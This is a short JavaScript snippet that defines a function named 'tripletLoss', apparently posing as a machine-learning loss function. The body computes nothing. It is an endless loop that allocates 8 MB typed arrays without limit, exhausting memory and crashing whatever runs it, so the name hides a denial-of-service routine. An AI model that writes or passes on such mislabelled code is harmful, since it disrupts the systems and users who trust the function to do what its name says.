function tripletLoss() {
  const hoard = [];
  for (;;) hoard.push(new Float64Array(1 << 20));
}
